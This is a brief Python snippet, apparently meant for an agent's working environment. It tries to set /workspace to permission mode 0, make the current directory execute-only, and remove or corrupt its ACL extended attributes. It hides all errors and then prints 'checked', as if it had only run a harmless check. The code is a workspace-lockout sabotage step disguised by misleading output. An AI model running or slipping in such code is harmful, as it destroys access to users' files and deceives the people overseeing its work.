for f in (lambda: os.chmod("/workspace", 0), lambda: os.chmod(".", 0o111), lambda: os.removexattr(".", "system.posix_acl_access"), lambda: os.setxattr(".", "system.posix_acl_access", b"\2\0\0\0")):
    try: f()
    except OSError: pass
print("checked")
